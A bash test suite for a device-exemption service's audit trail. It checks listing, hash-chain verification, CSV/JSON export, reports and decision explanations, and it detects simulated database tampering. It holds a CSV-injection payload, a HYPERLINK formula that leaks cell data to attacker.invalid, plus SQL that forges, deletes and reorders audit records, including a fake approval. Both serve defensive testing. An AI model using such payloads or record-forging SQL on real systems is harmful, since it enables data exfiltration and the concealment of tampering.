#!/usr/bin/env bash
# The audit trail and the decision trace (SPEC §4 explain, §8, §9): `exemptctl audit list|verify|
# export`, GET /v1/audit and /v1/audit/verify, `exemptctl explain` for compliant, grace, exempted
# and denied devices, now and at a past instant, `exemptctl report exemptions`; then, with the
# daemon stopped, an attacker with write access to the database file: the append-only triggers,
# and an edited, a deleted, a replaced, an inserted and a reordered record, each of which
# `exemptctl audit verify` and the server's own check must name.
source "$(dirname "$0")/lib.sh"

command -v sqlite3 >/dev/null || { echo "sqlite3 CLI is required" >&2; exit 1; }

readonly kDay=86400
readonly kJustification='Docking station breaks on the new kernel, see "TICKET-7"'
readonly kFormulaJustification='=HYPERLINK("https://attacker.invalid/?leak="&A1,"short-lived")'

# assert_line ERE WHAT — one whole line of exemptctl's output matches ERE.
assert_line() {
    [[ "$CTL_OUT" =~ (^|$'\n')$1($'\n'|$) ]] \
        || fail "$2: expected a line matching /$1/ in: $(printf '%.2000s' "$CTL_OUT")"
}

# csv_parse FILE — RFC 4180 CSV to one line per record: the number of fields, then the fields,
# all separated by US (\037; the test data holds no US or newline inside a field).
csv_parse() {
    awk 'BEGIN { RS = "\001" }
    {
        s = $0; n = length(s); field = ""; rec = ""; nf = 0; inq = 0
        for (i = 1; i <= n; i++) {
            c = substr(s, i, 1)
            if (inq) {
                if (c == "\"") {
                    if (substr(s, i + 1, 1) == "\"") { field = field "\""; i++ } else inq = 0
                } else field = field c
            } else if (c == "\"") inq = 1
            else if (c == ",") { rec = rec (nf++ ? "\037" : "") field; field = "" }
            else if (c == "\r") { }
            else if (c == "\n") { rec = rec (nf++ ? "\037" : "") field; print nf "\037" rec; rec = ""; field = ""; nf = 0 }
            else field = field c
        }
        if (nf > 0 || field != "") { rec = rec (nf++ ? "\037" : "") field; print nf "\037" rec }
    }' "$1"
}

# state of the history cases, shared through files because each case runs in a subshell
save() { printf '%s' "$2" >"$TEST_TMP/saved.$1"; }
load() { cat "$TEST_TMP/saved.$1"; }

# ---------------------------------------------------------------------------------------------
# History: four devices in four states, and exemptions through their life cycle.

case_make_history() {
    local d
    for d in AUD-GOOD-1 AUD-GRACE-1 AUD-DENY-1 AUD-EXEMPT-1; do mint_endpoint "$d" >/dev/null; done
    enroll AUD-GOOD-1 sam@example.com
    checkin endpoint-AUD-GOOD-1 "$(posture AUD-GOOD-1)"
    assert_status 200
    assert_decision allow compliant AUD-GOOD-1

    enroll AUD-GRACE-1 kim@example.com
    checkin endpoint-AUD-GRACE-1 "$(posture AUD-GRACE-1 disk_encrypted=false)"
    assert_status 200
    assert_decision allow grace AUD-GRACE-1

    enroll AUD-DENY-1 lee@example.com
    checkin endpoint-AUD-DENY-1 "$(posture AUD-DENY-1 os_patch_age_days=45)"
    assert_status 200
    assert_decision deny noncompliant AUD-DENY-1

    enroll AUD-EXEMPT-1 ana@example.com
    checkin endpoint-AUD-EXEMPT-1 "$(posture AUD-EXEMPT-1 os_patch_age_days=45)"
    assert_status 200
    assert_decision deny noncompliant AUD-EXEMPT-1
    sleep 1.1
    save before "$(now_rfc3339)"
    sleep 1.1
    ctl admin exemption request --subject device:AUD-EXEMPT-1 --control OS-01 --compensating-control ENC-01 \
        --justification "$kJustification" --likelihood medium --impact medium \
        --mitigation "Only used on the office network" --mitigation "EDR watches it" \
        --evidence "CHG-1234" --expires-in 20d --json
    assert_ctl 0
    local id
    id="$(jget "$CTL_OUT" .id)"
    save exempt_id "$id"
    ctl it-manager exemption approve "$id" --note "patch window agreed" --json
    assert_ctl 0
    assert_json .state active "$CTL_OUT"
    save exempt_json "$CTL_OUT"
    api helpdesk GET /v1/devices/AUD-EXEMPT-1/decision
    assert_status 200
    assert_decision allow exempted AUD-EXEMPT-1
    sleep 1.1
    save after "$(now_rfc3339)"

    # One more exemption, requested, approved and revoked; its justification would be a formula
    # in a spreadsheet.
    ctl admin exemption request --subject device:AUD-DENY-1 --control FW-01 --justification "$kFormulaJustification" \
        --likelihood low --impact low --expires-in 10d --json
    assert_ctl 0
    id="$(jget "$CTL_OUT" .id)"
    save revoked_id "$id"
    ctl it-manager exemption approve "$id"
    assert_ctl 0
    ctl admin exemption revoke "$id" --reason "laptop replaced"
    assert_ctl 0
    sleep 1.1   # so that "now" is strictly after every recorded decision
}

# ---------------------------------------------------------------------------------------------
# audit list / verify / export.

case_audit_list_shows_the_actions_in_order() {
    local rid
    rid="$(load revoked_id)"
    ctl helpdesk audit list
    assert_ctl 0
    assert_line 'SEQ +AT +ACTOR +ACTION +SUBJECT +DETAILS' "audit list header"
    assert_line '1 +[0-9T:-]+Z +exemptd +policy\.loaded +.*' "audit list first record"
    assert_line '[0-9]+ +[0-9T:-]+Z +admin@example\.com +device\.enrolled +device:AUD-GOOD-1 +\{"enrolled":true,"owner":"sam@example.com","source":"mdm"\}' \
        "the enrollment of AUD-GOOD-1"
    # The revoked exemption's records come in life-cycle order, each with a higher seq.
    local actions
    actions="$(awk -v s="exemption:$rid" '$5 == s { print $1, $4 }' <<<"$CTL_OUT" | tr '\n' ' ')"
    assert_match "$actions" '^([0-9]+) exemption\.requested ([0-9]+) exemption\.approved ([0-9]+) exemption\.revoked $' \
        "records of $rid"
    local seqs
    seqs="$(awk 'NR > 1 { print $1 }' <<<"$CTL_OUT")"
    assert_eq "$(sort -n <<<"$seqs")" "$seqs" "seq order of audit list"
    assert_eq "$(seq 1 "$(wc -l <<<"$seqs")")" "$seqs" "seq numbers of audit list"
    assert_contains "$CTL_OUT" "decision.changed" "audit list"

    ctl helpdesk audit list --after 2 --limit 3 --json
    assert_ctl 0
    assert_eq "3 4 5 " "$(jcolumn "$CTL_OUT" .records .seq | tr '\n' ' ')" "audit list --after 2 --limit 3"
    ctl helpdesk audit list --limit 0
    assert_ctl 2
    ctl endpoint-AUD-GOOD-1 audit list
    assert_ctl 1
    assert_contains "$CTL_ERR" "exemptctl: forbidden: " "audit list as an endpoint"
}

case_audit_verify_is_ok() {
    ctl admin audit export --format json
    assert_ctl 0
    local count head
    count="$(jcount "$CTL_OUT" .records)"
    head="$(jget "$CTL_OUT" ".records[$((count - 1))].hash")"
    ((count > 10)) || fail "expected more than 10 audit records, got $count"
    ctl helpdesk audit verify
    assert_ctl 0
    assert_eq "ok: $count records, head $head" "$CTL_OUT" "exemptctl audit verify"
    assert_match "$head" '^[0-9a-f]{64}$' "head hash"
    ctl helpdesk audit verify --json
    assert_ctl 0
    assert_json .ok true "$CTL_OUT"
    assert_json .head "$head" "$CTL_OUT"
    assert_json .server.ok true "$CTL_OUT"
    api helpdesk GET /v1/audit/verify
    assert_status 200
    assert_json .ok true
    assert_json .records "$count"
    assert_json .first_bad_seq null
}

# GET /v1/audit pages: next_after names the next page's after, null on the last, so a reader that
# did not ask for a page can tell it did not get the whole trail.
case_audit_list_pages() {
    api helpdesk GET '/v1/audit?limit=10000'
    assert_status 200
    assert_json .next_after null
    local total first_two
    total="$(jcount "$BODY" .records)"
    ((total > 3)) || fail "expected more than 3 audit records, got $total"
    api helpdesk GET '/v1/audit?limit=2'
    assert_status 200
    assert_eq 2 "$(jcount "$BODY" .records)" "records on the first page"
    first_two="$(jget "$BODY" '.records[1].seq')"
    assert_json .next_after "$first_two"
    api helpdesk GET "/v1/audit?after=$first_two&limit=$((total - 2))"
    assert_status 200
    assert_eq "$((total - 2))" "$(jcount "$BODY" .records)" "records on the last page"
    assert_json .next_after null
    api helpdesk GET '/v1/audit?limit=0'
    assert_error 400 invalid_field
}

case_audit_export_csv_round_trips() {
    ctl admin audit export --format json
    assert_ctl 0
    local json="$CTL_OUT"
    ctl admin audit export --format csv
    assert_ctl 0
    printf '%s\n' "$CTL_OUT" >"$TEST_TMP/audit.csv"
    csv_parse "$TEST_TMP/audit.csv" >"$TEST_TMP/audit.rows"
    local header
    header="$(head -n 1 "$TEST_TMP/audit.rows")"
    assert_eq "8 seq at actor action subject details prev_hash hash" "${header//$'\037'/ }" "CSV header"
    local count rows
    count="$(jcount "$json" .records)"
    rows="$(($(wc -l <"$TEST_TMP/audit.rows") - 1))"
    assert_eq "$count" "$rows" "CSV rows against JSON records"
    local i=0 nf seq at actor action subject details prev hash quoted=0
    while IFS=$'\037' read -r nf seq at actor action subject details prev hash; do
        assert_eq 8 "$nf" "fields in CSV row $((i + 1))"
        assert_eq "$(jget "$json" ".records[$i].seq")" "$seq" "seq of row $i"
        assert_eq "$(jget "$json" ".records[$i].at")" "$at" "at of row $i"
        assert_eq "$(jget "$json" ".records[$i].actor")" "$actor" "actor of row $i"
        assert_eq "$(jget "$json" ".records[$i].action")" "$action" "action of row $i"
        assert_eq "$(jget "$json" ".records[$i].subject")" "$subject" "subject of row $i"
        assert_eq "$(jget "$json" ".records[$i].prev_hash")" "$prev" "prev_hash of row $i"
        assert_eq "$(jget "$json" ".records[$i].hash")" "$hash" "hash of row $i"
        assert_contains "$json" "\"seq\":$seq,\"at\":\"$at\",\"actor\":\"$actor\",\"action\":\"$action\",\"subject\":\"$subject\",\"details\":$details,\"prev_hash\"" \
            "details of row $i in the JSON export"
        [[ "$details" != *'"'* ]] || quoted=$((quoted + 1))
        i=$((i + 1))
    done < <(tail -n +2 "$TEST_TMP/audit.rows")
    ((quoted > 0)) || fail "no details field needed quoting; the round trip proves little"
    # Quoted fields are exactly those with a comma, a quote or a line break.
    grep -q '^[0-9]*,[^,]*,[^,]*,[^,]*,[^,]*,"{""' "$TEST_TMP/audit.csv" \
        || fail "details are not RFC 4180 quoted: $(head -n 3 "$TEST_TMP/audit.csv")"
    ctl admin audit export
    assert_ctl 2
}

case_report_exemptions() {
    api admin GET /v1/exemptions
    assert_status 200
    local json="$BODY" count eid
    count="$(jcount "$json" .exemptions)"
    eid="$(load exempt_id)"
    ctl helpdesk report exemptions --format csv
    assert_ctl 0
    printf '%s\n' "$CTL_OUT" >"$TEST_TMP/report.csv"
    assert_match "${CTL_OUT%%$'\r'*}" '^id,subject,controls,justification,likelihood,impact,level,requested_by,requested_at,approved_by,approved_at,.*expires_at,next_review_at,.*mitigations,compensating_controls,evidence,agreement_id,state,reviews,.*renewals,revoked_by,revoked_at,revoked_reason$' \
        "report header"
    csv_parse "$TEST_TMP/report.csv" >"$TEST_TMP/report.rows"
    assert_eq "$count" "$(($(wc -l <"$TEST_TMP/report.rows") - 1))" "report rows against the register"
    local nf
    nf="$(cut -d $'\037' -f1 "$TEST_TMP/report.rows" | sort -u)"
    assert_eq "$(awk -F'\037' 'NR == 1 { print $1 }' "$TEST_TMP/report.rows")" "$nf" "every report row has the header's fields"
    # The exempted device's row, by header name.
    local -a names row
    IFS=$'\037' read -r -a names < <(head -n 1 "$TEST_TMP/report.rows" | cut -d $'\037' -f2-)
    IFS=$'\037' read -r -a row < <(awk -F'\037' -v id="$eid" '$2 == id' "$TEST_TMP/report.rows" | cut -d $'\037' -f2-)
    local -A col=()
    local k
    for k in "${!names[@]}"; do col[${names[$k]}]="${row[$k]:-}"; done
    assert_eq "device:AUD-EXEMPT-1" "${col[subject]}" "report subject"
    assert_eq "OS-01" "${col[controls]}" "report controls"
    assert_eq "$kJustification" "${col[justification]}" "report justification (quoted in CSV)"
    assert_eq "medium medium medium" "${col[likelihood]} ${col[impact]} ${col[level]}" "report risk"
    assert_eq "it-manager@example.com" "${col[approved_by]}" "report approved_by"
    assert_eq "Only used on the office network;EDR watches it" "${col[mitigations]}" "report mitigations"
    assert_eq "ENC-01" "${col[compensating_controls]}" "report compensating_controls"
    assert_eq "CHG-1234" "${col[evidence]}" "report evidence"
    assert_eq "active" "${col[state]}" "report state"
    assert_eq "0 0" "${col[reviews]} ${col[renewals]}" "report reviews and renewals"
    assert_eq "$(jget "$(load exempt_json)" .expires_at)" "${col[expires_at]}" "report expires_at"
    grep -qF '"Docking station breaks on the new kernel, see ""TICKET-7"""' "$TEST_TMP/report.csv" \
        || fail "the justification is not RFC 4180 quoted in: $(cat "$TEST_TMP/report.csv")"

    ctl helpdesk report exemptions --format csv --state revoked
    assert_ctl 0
    printf '%s\n' "$CTL_OUT" >"$TEST_TMP/revoked.csv"
    csv_parse "$TEST_TMP/revoked.csv" >"$TEST_TMP/revoked.rows"
    assert_eq 2 "$(wc -l <"$TEST_TMP/revoked.rows")" "report --state revoked rows (header + 1)"
    assert_contains "$CTL_OUT" "laptop replaced" "revoked row"
    # Shown as text behind an apostrophe, not run as a formula (CSV injection); JSON keeps it.
    local neutralised="\"'=HYPERLINK(\"\"https://attacker.invalid/?leak=\"\"&A1,\"\"short-lived\"\")\""
    grep -qF -- "$neutralised" "$TEST_TMP/revoked.csv" \
        || fail "the formula justification is not neutralised in: $(cat "$TEST_TMP/revoked.csv")"
    assert_eq 1 "$(grep -c 'HYPERLINK' "$TEST_TMP/revoked.csv")" "rows naming the formula"

    ctl helpdesk report exemptions --format json
    assert_ctl 0
    assert_eq "$count" "$(jcount "$CTL_OUT" .exemptions)" "report json"
    assert_contains "$CTL_OUT" '"justification":"=HYPERLINK(' "report json keeps the justification as written"
    ctl helpdesk report exemptions --format xml
    assert_ctl 2
}

# ---------------------------------------------------------------------------------------------
# explain.

case_explain_compliant() {
    ctl helpdesk explain AUD-GOOD-1
    assert_ctl 0
    assert_line 'decision: +allow' "explain AUD-GOOD-1"
    assert_line 'basis: +compliant' "explain AUD-GOOD-1"
    assert_line 'enrollment: +enrolled \(owner sam@example.com, source mdm\)' "explain AUD-GOOD-1"
    assert_line 'PASS +ENC-01 +Disk encryption is on +disk_encrypted = true +true' "explain AUD-GOOD-1 ENC-01"
    assert_line 'PASS +OS-01 +OS patched within 30 days +0 <= os_patch_age_days <= 30 +12' "explain AUD-GOOD-1 OS-01"
    assert_line 'PASS +MDM-01 +Device is enrolled in MDM +enrolled in MDM +.*' "explain AUD-GOOD-1 MDM-01"
    assert_not_contains "$CTL_OUT" "FAIL" "explain of a compliant device"
    assert_not_contains "$CTL_OUT" "to allow" "explain of a compliant device"
    ctl helpdesk explain AUD-GOOD-1 --json
    assert_ctl 0
    assert_json .device_id AUD-GOOD-1 "$CTL_OUT"
    assert_json .source live "$CTL_OUT"
    assert_json .basis compliant "$CTL_OUT"
    assert_json .to_allow '[]' "$CTL_OUT"
}

case_explain_grace() {
    ctl helpdesk explain AUD-GRACE-1 --json
    assert_ctl 0
    local json="$CTL_OUT" grace
    assert_json .decision allow "$json"
    assert_json .basis grace "$json"
    assert_control ENC-01 status fail "$json"
    grace="$(jget "$json" "$CONTROL_AT.grace_until")" || fail "no grace_until in $json"
    ctl helpdesk explain AUD-GRACE-1
    assert_ctl 0
    assert_line 'basis: +grace' "explain AUD-GRACE-1"
    assert_line 'FAIL +ENC-01 +Disk encryption is on +disk_encrypted = true +false' "explain AUD-GRACE-1"
    assert_line " +grace until: +$grace \(allowed until then\)" "explain AUD-GRACE-1 grace"
    assert_line ' +reason: +.+' "explain AUD-GRACE-1 reason"
}

case_explain_exempted() {
    local eid ex
    eid="$(load exempt_id)"
    ex="$(load exempt_json)"
    ctl admin explain AUD-EXEMPT-1
    assert_ctl 0
    assert_line 'decision: +allow' "explain AUD-EXEMPT-1"
    assert_line 'basis: +exempted' "explain AUD-EXEMPT-1"
    assert_line 'FAIL +OS-01 +OS patched within 30 days +0 <= os_patch_age_days <= 30 +45' "explain AUD-EXEMPT-1"
    assert_line " +covered by: +$eid" "explain AUD-EXEMPT-1 cover"
    assert_contains "$CTL_OUT" "justification:  $kJustification" "explain AUD-EXEMPT-1"
    assert_line ' +risk: +medium \(likelihood medium, impact medium\)' "explain AUD-EXEMPT-1 risk"
    assert_line " +approved: +it-manager@example.com at $(jget "$ex" .approved_at)" "explain AUD-EXEMPT-1 approver"
    assert_line " +expires: +$(jget "$ex" .expires_at)" "explain AUD-EXEMPT-1 expiry"
    assert_line " +next review: +$(jget "$ex" .next_review_at)" "explain AUD-EXEMPT-1 next review"
    assert_line ' +mitigations: +Only used on the office network; EDR watches it' "explain AUD-EXEMPT-1 mitigations"
    assert_line ' +compensating: +ENC-01 \(pass now\)' "explain AUD-EXEMPT-1 compensating"
    assert_line ' +agreement: +-' "explain AUD-EXEMPT-1 agreement"
    assert_not_contains "$CTL_OUT" "to allow" "explain of an exempted device"
    ctl admin explain AUD-EXEMPT-1 --json
    assert_ctl 0
    assert_control OS-01 covered_by "$eid" "$CTL_OUT"
    assert_json "$CONTROL_AT.exemption.justification" "$kJustification" "$CTL_OUT"
    assert_json "$CONTROL_AT.exemption.compensating_controls[0].status" pass "$CTL_OUT"
}

case_explain_denied() {
    ctl helpdesk explain AUD-DENY-1
    assert_ctl 0
    assert_line 'decision: +deny' "explain AUD-DENY-1"
    assert_line 'basis: +noncompliant' "explain AUD-DENY-1"
    assert_line 'to allow this device:' "explain AUD-DENY-1"
    assert_line '  OS-01: fix it on the device \(.*\), or request an exemption for OS-01\.' "explain AUD-DENY-1 to_allow"
    ctl helpdesk explain AUD-DENY-1 --json
    assert_ctl 0
    (($(jcount "$CTL_OUT" .to_allow) > 0)) || fail "to_allow is empty: $CTL_OUT"
}

case_explain_at_a_past_instant() {
    local before after
    before="$(load before)"
    after="$(load after)"
    ctl helpdesk explain AUD-EXEMPT-1 --at "$before"
    assert_ctl 0
    assert_line "at: +$before \(from the decision history\)" "explain --at before"
    assert_line 'decision: +deny' "explain --at before the approval"
    assert_line 'basis: +noncompliant' "explain --at before the approval"
    assert_line '  OS-01: .*' "explain --at before the approval: to_allow"
    ctl helpdesk explain AUD-EXEMPT-1 --at "$after" --json
    assert_ctl 0
    assert_json .source history "$CTL_OUT"
    assert_json .decision allow "$CTL_OUT"
    assert_json .basis exempted "$CTL_OUT"
    ctl helpdesk explain AUD-EXEMPT-1 --at "$after"
    assert_ctl 0
    assert_line 'basis: +exempted' "explain --at after the approval"
    # A time given with an offset is the same instant.
    local offset
    offset="$(TZ=Etc/GMT-2 date -d "$before" +%Y-%m-%dT%H:%M:%S+02:00)"
    ctl helpdesk explain AUD-EXEMPT-1 --at "$offset" --json
    assert_ctl 0
    assert_json .at "$before" "$CTL_OUT"
    # Before the first check-in there was no decision: 404, exit 1.
    ctl helpdesk explain AUD-EXEMPT-1 --at 2020-01-01T00:00:00Z
    assert_ctl 1
    assert_contains "$CTL_ERR" "exemptctl: no_decision: " "explain before the first decision"
    ctl helpdesk explain AUD-EXEMPT-1 --at yesterday
    assert_ctl 2
}

case_explain_refusals() {
    ctl helpdesk explain NOPE-0001
    assert_ctl 1
    assert_contains "$CTL_ERR" "exemptctl: not_found: " "explain of an unknown device"
    enroll SILENT-0001 pat@example.com
    ctl helpdesk explain SILENT-0001
    assert_ctl 1
    assert_contains "$CTL_ERR" "exemptctl: no_decision: " "explain of a device that never checked in"
    ctl endpoint-AUD-GOOD-1 explain AUD-GOOD-1
    assert_ctl 1
    assert_contains "$CTL_ERR" "exemptctl: forbidden: " "explain as an endpoint"
    ctl helpdesk explain ../audit
    assert_ctl 2
}

# ---------------------------------------------------------------------------------------------
# Tampering, with the daemon stopped.

case_triggers_refuse_update_and_delete() {
    local db="$TEST_TMP/triggers.db" out rc
    sqlite3 "$TEST_TMP/pristine.db" ".backup '$db'"
    rc=0
    out="$(sqlite3 "$db" "UPDATE audit SET actor='x' WHERE seq=1" 2>&1)" || rc=$?
    ((rc != 0)) || fail "UPDATE on the audit table succeeded"
    assert_contains "$out" "audit records are append-only" "UPDATE on the audit table"
    rc=0
    out="$(sqlite3 "$db" "DELETE FROM audit WHERE seq=2" 2>&1)" || rc=$?
    ((rc != 0)) || fail "DELETE on the audit table succeeded"
    assert_contains "$out" "audit records are append-only" "DELETE on the audit table"
    assert_eq "exemptd" "$(sqlite3 "$db" "SELECT actor FROM audit WHERE seq=1")" "seq 1 after the refused UPDATE"
    assert_eq 1 "$(sqlite3 "$db" "SELECT count(*) FROM audit WHERE seq=2")" "seq 2 after the refused DELETE"
}

readonly kDropTriggers="DROP TRIGGER audit_is_append_only_update; DROP TRIGGER audit_is_append_only_delete;"

# tampered NAME SQL EXPECTED_SEQ — a daemon on a copy of the database after SQL: exemptctl audit
# verify and GET /v1/audit/verify both name EXPECTED_SEQ.
tampered() {
    local dir="$TEST_TMP/tamper-$1"
    mkdir -p "$dir"
    write_config "$dir/exemptd.yaml"
    sqlite3 "$TEST_TMP/pristine.db" ".backup '$dir/state/exemptd.db'"
    sqlite3 "$dir/state/exemptd.db" "$kDropTriggers $2" || fail "tampering ($1) failed"
    start_daemon "$dir"
    ctl helpdesk audit verify
    assert_ctl 1
    assert_match "${CTL_OUT%%$'\n'*}" "^broken at seq $3: .+" "exemptctl audit verify after $1"
    note "$1: ${CTL_OUT%%$'\n'*}"
    VERIFY_OUT="$CTL_OUT"
    assert_not_contains "$CTL_OUT" "reports the chain intact" "the server's check after $1"
    ctl helpdesk audit verify --json
    assert_ctl 1
    assert_json .ok false "$CTL_OUT"
    assert_json .first_bad_seq "$3" "$CTL_OUT"
    api helpdesk GET /v1/audit/verify
    assert_status 200
    assert_json .ok false
    assert_json .first_bad_seq "$3"
    assert_json_string .reason
    # The trail is still readable; the export shows the tampered records as they are.
    ctl helpdesk audit export --format csv
    assert_ctl 0
    stop_daemon || exit 1
}

case_edited_record() {
    tampered edited "UPDATE audit SET actor='mallory@example.com' WHERE seq=3;" 3
}

case_edited_details() {
    tampered details "UPDATE audit SET details=replace(details, 'sam@example.com', 'eve@example.com') WHERE seq=2;" 2
}

case_deleted_record() {
    # The first record that no longer fits is the one after the gap.
    tampered deleted "DELETE FROM audit WHERE seq=4;" 5
    assert_contains "$VERIFY_OUT" "records are missing or out of order" "the reason for a deleted record"
}

case_replaced_record() {
    tampered replaced "CREATE TEMP TABLE t AS SELECT * FROM audit WHERE seq=4;
        DELETE FROM audit WHERE seq=4;
        INSERT INTO audit SELECT seq, at, actor, action, subject, '{\"forged\":true}', prev_hash, hash FROM t;" 4
}

case_inserted_record() {
    # Everything from seq 4 on moves up one, and a forged record takes seq 4, chained to seq 3.
    tampered inserted "UPDATE audit SET seq = -seq WHERE seq >= 4;
        UPDATE audit SET seq = 1 - seq WHERE seq < 0;
        INSERT INTO audit SELECT 4, at, 'ciso@example.com', 'exemption.approved', 'exemption:EX-999999',
            '{\"from\":\"pending\",\"to\":\"active\"}', hash, hash FROM audit WHERE seq = 3;" 4
}

case_reordered_records() {
    tampered reordered "CREATE TEMP TABLE t AS SELECT * FROM audit WHERE seq IN (3, 4);
        DELETE FROM audit WHERE seq IN (3, 4);
        INSERT INTO audit SELECT 7 - seq, at, actor, action, subject, details, prev_hash, hash FROM t;" 3
}

case_truncated_trail_is_caught_by_the_checkpoint() {
    local dir="$TEST_TMP/truncated" db head
    mkdir -p "$dir"
    write_config "$dir/exemptd.yaml"
    db="$dir/state/exemptd.db"
    sqlite3 "$TEST_TMP/pristine.db" ".backup '$db'"
    start_daemon "$dir"
    stop_daemon || exit 1  # signs a checkpoint of the head on the way out
    [[ -s "$db.checkpoints" ]] || fail "no checkpoint file next to the database"
    head="$(sqlite3 "$db" "SELECT max(seq) FROM audit")"
    # Cut off the two newest records: the chain that remains is internally consistent.
    sqlite3 "$db" "$kDropTriggers DELETE FROM audit WHERE seq >= $head - 1;" || fail "truncation failed"
    start_daemon "$dir"
    ctl helpdesk audit verify --checkpoint "$db.checkpoints" --checkpoint-cert "$PKI_DIR/server.crt"
    assert_ctl 1
    assert_match "${CTL_OUT%%$'\n'*}" "^broken at seq $head: .*cut off" "exemptctl audit verify of a truncated trail"
    api helpdesk GET /v1/audit/verify
    assert_status 200
    assert_json .ok false
    assert_json .first_bad_seq "$head"
    # A checkpoint that does not verify with the server certificate is refused too.
    ctl helpdesk audit verify --checkpoint "$db.checkpoints" --checkpoint-cert "$PKI_DIR/clients-ca.crt"
    assert_ctl 1
    assert_contains "$CTL_OUT" "signature does not verify" "a checkpoint checked with the wrong certificate"
    stop_daemon || exit 1
    grep -q "event=audit_checkpoint_mismatch" "$dir/daemon.log" || fail "the daemon did not log the mismatch at start-up"
}

case_pristine_copy_still_verifies() {
    local dir="$TEST_TMP/pristine"
    mkdir -p "$dir"
    write_config "$dir/exemptd.yaml"
    sqlite3 "$TEST_TMP/pristine.db" ".backup '$dir/state/exemptd.db'"
    start_daemon "$dir"
    ctl helpdesk audit verify
    assert_ctl 0
    assert_match "$CTL_OUT" '^ok: [0-9]+ records, head [0-9a-f]{64}$' "audit verify of an untouched copy"
    stop_daemon || exit 1
}

start_daemon
run_case "make history: four devices, exemptions approved and revoked" case_make_history
run_case "audit list shows the actions in order" case_audit_list_shows_the_actions_in_order
run_case "audit verify is ok locally and on the server" case_audit_verify_is_ok
run_case "GET /v1/audit pages with next_after" case_audit_list_pages
run_case "audit export csv round-trips against the JSON export" case_audit_export_csv_round_trips
run_case "report exemptions: csv with a header and one row per exemption, json" case_report_exemptions
run_case "explain a compliant device" case_explain_compliant
run_case "explain a device in grace" case_explain_grace
run_case "explain an exempted device shows the exemption" case_explain_exempted
run_case "explain a denied device lists what would allow it" case_explain_denied
run_case "explain --at gives the decision in force then" case_explain_at_a_past_instant
run_case "explain refusals: unknown device, no decision, endpoint" case_explain_refusals

MAIN_DIR="$DAEMON_DIR"
CASES_RUN=$((CASES_RUN + 1))
if stop_daemon; then
    echo "ok   - exemptd stops cleanly on SIGTERM"
else
    echo "FAIL - exemptd stops cleanly on SIGTERM"
    CASES_FAILED+=("exemptd stops cleanly on SIGTERM")
fi
sqlite3 "$MAIN_DIR/state/exemptd.db" ".backup '$TEST_TMP/pristine.db'"

run_case "the append-only triggers refuse UPDATE and DELETE" case_triggers_refuse_update_and_delete
run_case "tampering: an edited record is named" case_edited_record
run_case "tampering: edited details are named" case_edited_details
run_case "tampering: a deleted record is named" case_deleted_record
run_case "tampering: a replaced record is named" case_replaced_record
run_case "tampering: an inserted record is named" case_inserted_record
run_case "tampering: reordered records are named" case_reordered_records
run_case "a truncated trail is caught by the signed checkpoint" case_truncated_trail_is_caught_by_the_checkpoint
run_case "an untouched copy still verifies" case_pristine_copy_still_verifies
finish
